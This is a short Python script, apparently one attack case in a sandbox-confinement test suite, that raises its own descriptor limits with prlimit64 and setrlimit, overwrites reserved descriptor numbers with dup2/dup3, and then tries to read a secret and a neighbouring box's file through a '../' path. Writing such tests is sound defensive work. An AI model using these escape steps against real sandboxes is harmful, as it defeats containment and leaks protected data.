# SPDX-License-Identifier: Apache-2.0
# attack: prlimit on itself: more descriptors, so that the reserved numbers come within reach
# class: admin
# wins: leak
from kit import *

tried()
hold()
before = reserved()
for resource, soft, hard in ((7, 1 << 20, 1 << 20), (7, 16, 16), (7, 1 << 19, 1 << 20), (9, 1 << 40, 1 << 40), (8, 0, 0), (4, -1, -1)):
    sc('prlimit64', 0, resource, struct.pack('<QQ', soft & (1 << 64) - 1, hard & (1 << 64) - 1), None)
    sc('setrlimit', resource, struct.pack('<QQ', soft & (1 << 64) - 1, hard & (1 << 64) - 1))
d = openat(BOX + '/a', os.O_DIRECTORY)
for n in before:
    sc('dup2', d, n)
    sc('dup3', d, n, 0)
take(SECRET)
take(BOX + '/../box1/twin.txt')
hold()
